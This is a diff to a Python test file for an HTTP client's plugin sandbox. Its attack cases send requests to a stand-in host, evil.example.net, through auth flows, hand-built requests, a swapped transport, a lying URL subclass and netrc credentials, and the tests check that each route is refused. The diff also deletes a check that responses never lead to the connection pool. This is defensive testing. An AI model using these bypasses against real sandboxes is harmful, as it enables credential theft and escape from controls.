@@ -1,4 +1,4 @@
-"""What a plugin may put into a request object, and the ways round `get` by which it may send one."""
+"""Attack: request objects that a plugin manipulates, and requests sent without `get`."""
 
 import pathlib
 from collections.abc import Awaitable, Callable, Iterator
@@ -14,16 +14,16 @@ _EVIL = "https://evil.example.net/"
 
 
 async def _auth_flow(client: Any, url: str) -> None:
-    class Elsewhere(client.dialect.library.Auth):  # type: ignore[misc, name-defined]
+    class Elsewhere(client.adapter.library.Auth):  # type: ignore[misc, name-defined]
         def auth_flow(self, request: Any) -> Iterator[Any]:
             yield request
-            yield client.dialect.library.Request("GET", _EVIL)
+            yield client.adapter.library.Request("GET", _EVIL)
 
     await client.get(url, auth=Elsewhere())
 
 
 async def _hand_built(client: Any, _: str) -> None:
-    await client.send(client.dialect.library.Request("GET", _EVIL))
+    await client.send(client.adapter.library.Request("GET", _EVIL))
 
 
 async def _built(client: Any, _: str) -> None:
@@ -31,21 +31,21 @@ async def _built(client: Any, _: str) -> None:
 
 
 async def _transport_assigned(client: Any, _: str) -> None:
-    client._transport = client.dialect.library.AsyncHTTPTransport()
+    client._transport = client.adapter.library.AsyncHTTPTransport()
     await client.get(_EVIL)
 
 
 async def _url_subclass(client: Any, url: str) -> None:
-    class Lying(client.dialect.library.URL):  # type: ignore[misc, name-defined]
+    class Lying(client.adapter.library.URL):  # type: ignore[misc, name-defined]
         raw_host = property(lambda _: b"api.example.com")
 
-    request = client.dialect.library.Request("GET", url)
+    request = client.adapter.library.Request("GET", url)
     request.url = Lying(_EVIL)
     await client.send(request)
 
 
 async def _netrc(client: Any, _: str) -> None:
-    await client.get(_EVIL, auth=client.dialect.library.NetRCAuth(client.netrc_file))
+    await client.get(_EVIL, auth=client.adapter.library.NetRCAuth(client.netrc_file))
 
 
 _WAYS: dict[str, Callable[[Any, str], Awaitable[None]]] = {
@@ -55,9 +55,9 @@ _WAYS: dict[str, Callable[[Any, str], Awaitable[None]]] = {
     "client._transport": _transport_assigned,
     "httpx.NetRCAuth": _netrc,
 }
-# These are no refusals of a request; the tests named here hold them.
+# These aren't refusals of a request; the tests named here cover them.
 _ELSEWHERE = {
-    "response.stream...._pool": "test_no_attribute_leads_from_a_response_to_the_pool",
+    "response.stream...._pool": "test_no_attribute_leads_from_a_client_to_its_service",
     "shared cookie jar": "test_cookies_stay_with_the_plugin_that_got_them",
     "await client.aclose()": "test_a_plugin_that_closes_its_client_closes_nobody_elses",
 }
@@ -145,7 +145,7 @@ async def test_a_request_that_answers_differently_the_second_time(kind: Any) -> 
     async with Server() as server:
         one = loopback(server, kind=kind)
         async with one.client() as client:
-            library = client.dialect.library
+            library = client.adapter.library
 
             class Fickle(library.Request):  # type: ignore[misc, name-defined]
                 reads = 0
@@ -172,7 +172,7 @@ async def test_parts_that_are_subclasses_are_refused(kind: Any, name: str) -> No
     async with Server() as server, loopback(server, kind=kind).client() as client:
         request = client.build_request("GET", server.url)
         if name == "url":
-            request.url = type("U", (client.dialect.library.URL,), {})(server.url)
+            request.url = type("U", (client.adapter.library.URL,), {})(server.url)
         else:
             part = getattr(request, name)
             setattr(request, name, type("Sub", (type(part),), {})(part))
@@ -188,7 +188,7 @@ async def test_credentials_of_netrc_go_only_where_the_policy_leads(kind: Any, tm
         one = loopback(server, kind=kind)
         one.policy = one.policy.allow_connect_host(f"127.0.0.1:{other.port}")
         async with one.client(follow_redirects=True) as client:
-            await client.get(server.url, auth=client.dialect.library.NetRCAuth(str(tmp_path / "netrc")))
+            await client.get(server.url, auth=client.adapter.library.NetRCAuth(str(tmp_path / "netrc")))
         assert server.requests[0].header("authorization") == "Basic YTpi"
         assert other.requests[0].header("authorization") is None
 
@@ -202,30 +202,13 @@ async def test_the_environments_proxies_are_not_used(kind: Any, monkeypatch: pyt
         assert not client.trust_env
 
 
-async def _reaches_no_pool(response: Any) -> None:
-    import httpcore2
-
-    seen: set[int] = set()
-    queue: list[Any] = [response.stream, response.extensions]
-    while queue:
-        value = queue.pop()
-        if id(value) in seen or isinstance(value, str | bytes | int | type):
-            continue
-        seen.add(id(value))
-        assert not isinstance(value, httpcore2.AsyncConnectionPool | httpcore2.AsyncConnectionInterface)
-        if isinstance(value, dict | list | tuple | set):
-            queue.extend(value.values() if isinstance(value, dict) else value)
-        queue.extend(getattr(value, name, None) for name in dir(value) if not name.startswith("__"))
-
-
-async def test_no_attribute_leads_from_a_response_to_the_pool(kind: Any) -> None:
-    """Neither the stream nor the extensions lead to a connection: the walk takes every attribute but the dunders."""
+async def test_a_response_has_only_its_own_extensions(kind: Any) -> None:
+    """No `network_stream`: the library's would lead to the connection."""
     async with (
         Server(reply(200, b"x" * 300_000)) as server,
         loopback(server, kind=kind).client() as client,
         client.stream("GET", server.url) as response,
     ):
-        await _reaches_no_pool(response)
         assert set(response.extensions) == {"http_version", "reason_phrase"}
 
 
@@ -240,7 +223,7 @@ async def test_a_request_smuggled_into_a_body_stays_a_body(kind: Any) -> None:
         Server(lambda r: reply(200, r.target.encode())) as server,
         loopback(server, kind=kind).client() as client,
     ):
-        with pytest.raises(client.dialect.library.LocalProtocolError):
+        with pytest.raises(client.adapter.library.LocalProtocolError):
             await client.post(f"{server.url}/first", content=pieces(), headers={"Content-Length": "5"})
     assert "/second" not in [request.target for request in server.requests]
 
